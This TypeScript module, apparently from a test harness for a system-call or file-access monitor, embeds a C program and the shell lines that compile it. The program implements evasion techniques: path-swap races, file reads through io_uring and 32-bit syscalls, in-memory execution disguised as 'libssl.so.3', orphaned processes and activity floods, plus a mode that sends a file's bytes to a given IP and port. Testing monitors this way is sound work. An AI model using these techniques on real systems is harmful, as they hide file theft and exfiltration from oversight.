/** Where `prepared` puts the program: below the scenario's own folder. */
export const PROGRAM = "$HOOD/tool";

/**
 * Acts in the way that its first argument names. Exit code 7: this kernel does not let it. Calls are made by hand where a library
 * would make others. Paths are arguments, so that no path stands in what the compiler is given.
 */
export const SOURCE = `
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int is(const char *way, const char *name) { return !strcmp(way, name); }
static char bytes[1 << 16];

/* Another thread writes a harmless path over what was typed, once the kernel has copied it and is on its way. */
static char typed[4000];
static const char *decoy;
static volatile int go, done;
static void *swap(void *unused)
{
	for (;;) {
		while (!go) if (done) return 0;
		for (volatile int i = 0; i < 400; i++);
		memcpy(typed, decoy, strlen(decoy) + 1);
		go = 0;
	}
}
/* Hundreds of "." make the walk longer than the copy. */
static void type(const char *path)
{
	char *at = typed;
	for (int i = 0; i < 1500; i++) at = stpcpy(at, "/.");
	strcpy(at, path);
}
static int swapped(int (*act)(void), const char *path)
{
	for (int tries = 0; tries < 50; tries++) {
		type(path);
		go = 1;
		int result = act();
		while (go);
		if (result >= 0) return result;
	}
	return -1;
}
static int act_open(void) { return syscall(SYS_openat, AT_FDCWD, typed, O_RDONLY); }
static int act_unlink(void) { return syscall(SYS_unlinkat, AT_FDCWD, typed, 0); }

/* A ring by hand: one request, one answer. */
static struct { int fd; unsigned *tail, *mask, *array, *head, *cmask; struct io_uring_sqe *sqes; struct io_uring_cqe *cqes; } ring;
static void ring_open(void)
{
	struct io_uring_params p = { 0 };
	ring.fd = syscall(SYS_io_uring_setup, 4, &p);
	if (ring.fd < 0) _exit(7);
	char *sq = mmap(0, p.sq_off.array + p.sq_entries * 4, 3, MAP_SHARED, ring.fd, IORING_OFF_SQ_RING);
	char *cq = mmap(0, p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe), 3, MAP_SHARED, ring.fd, IORING_OFF_CQ_RING);
	ring.sqes = mmap(0, p.sq_entries * sizeof(struct io_uring_sqe), 3, MAP_SHARED, ring.fd, IORING_OFF_SQES);
	ring.tail = (unsigned *)(sq + p.sq_off.tail);
	ring.mask = (unsigned *)(sq + p.sq_off.ring_mask);
	ring.array = (unsigned *)(sq + p.sq_off.array);
	ring.head = (unsigned *)(cq + p.cq_off.head);
	ring.cmask = (unsigned *)(cq + p.cq_off.ring_mask);
	ring.cqes = (struct io_uring_cqe *)(cq + p.cq_off.cqes);
}
static int request(int op, int fd, const void *addr, unsigned len, uint64_t off, unsigned flags)
{
	unsigned at = *ring.tail & *ring.mask;
	struct io_uring_sqe *sqe = &ring.sqes[at];
	memset(sqe, 0, sizeof(*sqe));
	sqe->opcode = op; sqe->fd = fd; sqe->addr = (uintptr_t)addr; sqe->len = len; sqe->off = off; sqe->open_flags = flags;
	ring.array[at] = at;
	__atomic_store_n(ring.tail, *ring.tail + 1, __ATOMIC_RELEASE);
	if (syscall(SYS_io_uring_enter, ring.fd, 1, 1, IORING_ENTER_GETEVENTS, 0, 0) < 0) _exit(7);
	int result = ring.cqes[*ring.head & *ring.cmask].res;
	__atomic_store_n(ring.head, *ring.head + 1, __ATOMIC_RELEASE);
	return result;
}
static void ring_read(const char *path)
{
	int fd = request(IORING_OP_OPENAT, AT_FDCWD, path, 0, 0, O_RDONLY);
	if (fd >= 0) request(IORING_OP_READ, fd, bytes, sizeof(bytes), 0, 0);
}

#ifdef __x86_64__
/* Numbers of arch/x86/entry/syscalls/syscall_32.tbl. */
static int narrow(int number, long a, long b, long c)
{
	long result;
	__asm__ volatile("int $0x80" : "=a"(result) : "a"(number), "b"(a), "c"(b), "d"(c) : "memory", "r8", "r9", "r10", "r11");
	return (int)result;
}
static void narrow_read(const char *path)
{
	char *low = mmap(0, 8192, 3, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
	strcpy(low, path);
	int fd = narrow(5, (long)low, O_RDONLY, 0);
	if (fd >= 0) narrow(3, fd, (long)low, 4096);
}
#else
static int narrow(int number, long a, long b, long c) { _exit(7); }
static void narrow_read(const char *path) { _exit(7); }
#endif

static int in_memory(const char *path)
{
	int from = open(path, O_RDONLY), to = memfd_create("libssl.so.3", 0), n;
	while ((n = read(from, bytes, sizeof(bytes))) > 0) if (write(to, bytes, n) != n) _exit(8);
	return to;
}

/* Whoever acts has nobody above it any more. */
static int orphan(void)
{
	int pipes[2];
	pid_t pid = fork();
	if (pid) { waitpid(pid, 0, 0); return 0; }
	setsid();
	pipe(pipes);
	if (fork()) _exit(0);
	close(pipes[1]);
	read(pipes[0], bytes, 1);
	usleep(20000);
	return 1;
}

static void flood(int seconds)
{
	char path[64];
	time_t end = time(0) + seconds;
	for (int i = 0; time(0) < end; i++) {
		snprintf(path, sizeof(path), "/tmp/%d", i);
		int fd = open(path, O_CREAT | O_RDWR, 0600);
		if (fd >= 0) close(fd);
		unlink(path);
		open("/nowhere", O_RDONLY);
		if (i % 64 == 0) { pid_t pid = fork(); if (pid == 0) _exit(0); waitpid(pid, 0, 0); }
	}
}

int main(int argc, char **argv)
{
	pthread_t thread;
	if (argc < 2) return 0;
	const char *way = argv[1];
	if (is(way, "swap-read") || is(way, "swap-unlink")) {
		decoy = argv[2];
		pthread_create(&thread, 0, swap, 0);
		for (int i = 3; i < argc; i++) {
			int result = swapped(is(way, "swap-read") ? act_open : act_unlink, argv[i]);
			if (is(way, "swap-read") && result >= 0) read(result, bytes, sizeof(bytes));
		}
		done = 1;
		usleep(500000);
	}
	if (is(way, "ring-read")) { ring_open(); for (int i = 2; i < argc; i++) ring_read(argv[i]); usleep(500000); }
	if (is(way, "ring-send")) {
		struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(atoi(argv[3])) };
		inet_pton(AF_INET, argv[2], &to.sin_addr);
		ring_open();
		ring_read(argv[4]);
		int fd = request(IORING_OP_SOCKET, AF_INET, 0, 0, SOCK_STREAM, 0);
		if (fd < 0) _exit(7);
		request(IORING_OP_CONNECT, fd, &to, 0, sizeof(to), 0);
		request(IORING_OP_SEND, fd, bytes, 200, 0, 0);
		usleep(500000);
	}
	if (is(way, "narrow-probe")) return narrow(20, 0, 0, 0) == getpid() ? 0 : 7;
	if (is(way, "narrow-read")) { for (int i = 2; i < argc; i++) narrow_read(argv[i]); usleep(500000); }
	if (is(way, "memfd")) syscall(SYS_execveat, in_memory(argv[2]), "", argv + 3, environ, AT_EMPTY_PATH);
	if (is(way, "orphan")) { if (orphan()) execv(argv[2], argv + 2); sleep(2); }
	if (is(way, "scatter")) {
		/* Each file is read by somebody without a parent, a while after the last. */
		for (int i = 3; i < argc; i++) {
			if (orphan()) { int fd = open(argv[i], O_RDONLY); if (fd >= 0) read(fd, bytes, sizeof(bytes)); _exit(0); }
			usleep(atoi(argv[2]) * 1000);
		}
	}
	if (is(way, "flood")) { flood(atoi(argv[2])); execv(argv[3], argv + 3); }
	return 0;
}
`;

/** Shell lines for `prepare`: compiles the program and looks, by exit code, whether `probe` works here. */
export function prepared(probe = ""): string {
  const lines = [`cc -static -pthread -O1 -w -o ${PROGRAM} -x c - <<'SOURCE' || exit 1`, SOURCE.trim(), "SOURCE"];
  return [
    ...lines,
    ...(probe === "" ? [] : [`${PROGRAM} ${probe} || { echo "this kernel has none" >&2; exit 1; }`]),
  ].join("\n");
}
